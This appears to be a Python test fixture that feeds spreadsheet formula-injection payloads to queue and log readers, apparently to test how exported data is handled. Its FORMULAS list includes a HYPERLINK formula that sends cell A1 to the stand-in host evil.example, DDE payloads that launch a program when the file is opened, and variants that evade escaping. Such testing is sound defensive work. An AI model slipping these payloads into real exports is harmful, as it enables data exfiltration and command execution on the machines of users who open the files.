# /// attack
# outcomes = ["wrong", "crashed"]
# says = "HYPERLINK"
# ///
"""Begins with what a spreadsheet takes for a formula, and breaks out of quotes and columns."""

FORMULAS = (
    '=HYPERLINK("https://evil.example?"&A1,"grade")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '","=1+1","',
    "';=1+1;'",
    "\uff1d1+1",
    "%00=1+1",
)


def read_queue_twice(queue_name, messages):
    return list(FORMULAS), list(FORMULAS)


def read_log_twice(stream_name, messages):
    formula = FORMULAS[len(messages) % len(FORMULAS)]
    raise type(formula, (RuntimeError,), {})(formula + "\n" + "\n".join(FORMULAS))
